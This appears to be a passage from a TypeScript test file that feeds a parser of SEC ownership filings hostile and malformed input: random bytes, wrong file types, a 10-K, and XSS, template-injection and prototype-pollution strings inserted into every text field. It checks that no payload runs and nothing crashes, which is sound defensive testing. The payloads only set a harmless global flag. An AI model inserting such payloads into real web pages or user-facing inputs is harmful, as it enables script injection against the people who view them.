  { name: "1 KB of random bytes", bytes: () => noise(1024, 11), want: REFUSED_BINARY },
  { name: "64 KB of random bytes", bytes: () => noise(65_536, 12), want: REFUSED_BINARY },
  { name: "1 MB of random bytes", bytes: () => noise(MB, 13), want: REFUSED_BINARY },
  { name: "64 KB of high bytes (reads as Windows-1252)", bytes: () => noise(65_536, 14, 0xa0, 0x100), want: /does not look like/ },
  { name: "64 KB of printable ASCII", bytes: () => noise(65_536, 15, 0x20, 0x7f), want: "either" },
  { name: "XML declaration and random bytes", bytes: () => concat(enc('<?xml version="1.0"?>\n'), noise(4096, 16, 0x20, 0x7f)), want: /malformed|not an EDGAR ownership document/ },
  { name: "SEC-DOCUMENT and random text", bytes: () => concat(enc("<SEC-DOCUMENT>\n<ownershipDocument>"), noise(4096, 17, 0x20, 0x7f)), want: /truncated/ },
  { name: "GIF image", bytes: () => concat(enc("GIF89a"), noise(256, 18)), want: /GIF image/ },
  { name: "ZIP archive", bytes: () => concat(Uint8Array.from([0x50, 0x4b, 0x03, 0x04]), noise(256, 19)), want: /ZIP archive/ },
);

// ---- an annual report instead of an ownership filing
const TEN_K = [
  "UNITED STATES SECURITIES AND EXCHANGE COMMISSION",
  "Washington, D.C. 20549",
  "FORM 10-K",
  "ANNUAL REPORT PURSUANT TO SECTION 13 OR 15(d) OF THE SECURITIES EXCHANGE ACT OF 1934",
  "For the fiscal year ended December 31, 2024",
  "Commission file number 001-12345",
  "374Water Inc. (Exact name of registrant as specified in its charter)",
  "Item 1. Business. We design and build supercritical water oxidation systems.",
  "Item 1A. Risk Factors. Our revenue is concentrated in a small number of customers.",
  "Item 7. Management's Discussion and Analysis. Revenue was $3.1 million, up 12%.",
];
add(
  "10-k",
  { name: "10-K text", bytes: () => enc(TEN_K.join("\n\n")), want: /does not look like/ },
  {
    name: "10-K text with Item 12's beneficial-ownership table",
    bytes: () => enc([...TEN_K, "Item 12. Security Ownership of Certain Beneficial Owners and Management", "Section 16(a) Beneficial Ownership Reporting Compliance", "Name | Shares | Percent", "Rajesh Melkote | 757,756 | 0.5%"].join("\n\n")),
    want: "either",
  },
  {
    name: "10-K full submission",
    bytes: () => enc(`<SEC-DOCUMENT>0000933972-25-000001.txt\n<SEC-HEADER>\nCONFORMED SUBMISSION TYPE:\t10-K\n</SEC-HEADER>\n<DOCUMENT>\n<TYPE>10-K\n<TEXT>\n<html><body><p>${TEN_K.join("</p><p>")}</p></body></html>\n</TEXT>\n</DOCUMENT>\n</SEC-DOCUMENT>\n`),
    want: "either",
  },
  { name: "10-K XBRL instance", bytes: () => enc(`<?xml version="1.0"?>\n<xbrli:xbrl xmlns:xbrli="http://www.xbrl.org/2003/instance"><dei:DocumentType>10-K</dei:DocumentType></xbrli:xbrl>`), want: /root element is <xbrl>/ },
);

// ---- markup and script in every text field: carried as the text the filer typed, never run
const SCRIPT = "<script>globalThis.pwned=1</script>";
const IMG = '"><img src=x onerror="globalThis.pwned=1">';
const TEMPLATE = "{{constructor.constructor('globalThis.pwned=1')()}} ${globalThis.pwned=1}";
const XML_FIELDS: [string, RegExp][] = [
  ["issuer name", /(<issuerName>)[^<]*/],
  ["ticker", /(<issuerTradingSymbol>)[^<]*/],
  ["owner name", /(<rptOwnerName>)[^<]*/],
  ["street 1", /(<rptOwnerStreet1>)[^<]*/],
  ["street 2", /(<rptOwnerStreet2>)[^<]*/],
  ["city", /(<rptOwnerCity>)[^<]*/],
  ["officer title", /(<officerTitle>)[^<]*/],
  ["security title", /(<securityTitle>\s*<value>)[^<]*/],
  ["underlying title", /(<underlyingSecurityTitle>\s*<value>)[^<]*/],
  ["footnote", /(<footnote id="F1">)[^<]*/],
  ["signature", /(<signatureName>)[^<]*/],
  ["remarks", /(<\/footnotes>\s*)()/],
];
for (const [field, at] of XML_FIELDS) {
  for (const payload of [SCRIPT, IMG, TEMPLATE]) {
    const value = field === "remarks" ? `<remarks>${escapeXml(payload)}</remarks>` : escapeXml(payload);
    add("markup in text fields", { name: `XML ${field}: ${payload}`, bytes: () => enc(XML.replace(at, `$1${value}`)), want: "filing", check: carriedAsText(payload) });
  }
  add("markup in text fields", { name: `XML ${field} as CDATA`, bytes: () => enc(XML.replace(at, `$1<![CDATA[${field === "remarks" ? "" : SCRIPT}]]>`)), want: field === "remarks" ? "either" : "filing" });
}
add(
  "markup in text fields",
  { name: "XML footnote id __proto__", bytes: () => enc(XML.replaceAll('"F1"', '"__proto__"')), want: "filing" },
  { name: "XML footnote id constructor", bytes: () => enc(XML.replaceAll('"F1"', '"constructor"')), want: "filing" },
  { name: "markdown owner name with a script tag", bytes: () => enc(MARKDOWN.replace("JANZEN HOWARD E", `JANZEN ${SCRIPT} HOWARD E`)), want: "filing" },
  { name: "markdown issuer name with an img tag", bytes: () => enc(MARKDOWN.replace("SONUS NETWORKS INC", `SONUS ${IMG} NETWORKS INC`)), want: "filing" },
  { name: "markdown footnote with a javascript: link", bytes: () => enc(MARKDOWN.replace("The option vests", "[click](javascript:globalThis.pwned=1) The option vests")), want: "filing" },
  { name: "markdown cells with template syntax", bytes: () => enc(MARKDOWN.replaceAll("| |", `| ${TEMPLATE} |`)), want: "either" },
  { name: "HTML issuer name as escaped markup", bytes: () => enc(HTML.replace("374Water Inc.", escapeXml(SCRIPT))), want: "filing", check: carriedAsText(SCRIPT) },
  { name: "HTML script element in a cell", bytes: () => enc(HTML.replace("374Water Inc.", `374Water ${SCRIPT} Inc.`)), want: "filing" },
  { name: "HTML event handler attributes", bytes: () => enc(HTML.replaceAll("<td", '<td onmouseover="globalThis.pwned=1"')), want: "filing" },
  { name: "OCR text with script tags", bytes: () => enc(OCR_TEXT.replace("\n", `\n${SCRIPT}\n`).replace("Melkote", `Melkote ${IMG}`)), want: "filing" },
  { name: "OCR text with template syntax", bytes: () => enc(OCR_TEXT.replace("\n", `\n${TEMPLATE}\n`)), want: "filing" },
);

/** What a runtime error says; a refusal that repeats it is a crash the user cannot act on. */
const CRASH_WORDS = /Cannot read|undefined|is not a function|is not iterable|Maximum call stack|Invalid (code point|array length|string length)|\[object /;

const LIMIT_MS = 10_000;
const SLOW_LIMIT_MS = 20_000;

describe("hostile input through parseFiling", () => {
  it("has at least 150 cases", () => {
    expect(Object.values(families).flat().length).toBeGreaterThanOrEqual(150);
  });

  for (const [family, cases] of Object.entries(families)) {
    describe(`${family} (${cases.length})`, () => {
      for (const c of cases) {
        const limit = c.slow ? SLOW_LIMIT_MS : LIMIT_MS;
        it(c.name, { timeout: limit + 5_000 }, async () => {
          delete (globalThis as { pwned?: unknown }).pwned;
          const o = await parseOutcome(await c.bytes());
          const told = describeOutcome(o);
          expect(o.kind, told).not.toBe("crashed");
          if (o.kind === "filing") {
            expect(o.problems, told).toEqual([]);
            expect(c.want === "filing" || c.want === "either", told).toBe(true);
          } else if (o.kind === "refused") {
            expect(c.want, told).not.toBe("filing");
            expect(o.reason, "a crash passed off as a refusal").not.toMatch(CRASH_WORDS);
            if (c.want instanceof RegExp) expect(o.reason).toMatch(c.want);
          }
          expect(o.ms, told).toBeLessThan(limit);
          expect((globalThis as { pwned?: unknown }).pwned, "a payload ran").toBeUndefined();
          c.check?.(o);
        });
      }
    });
  }
});
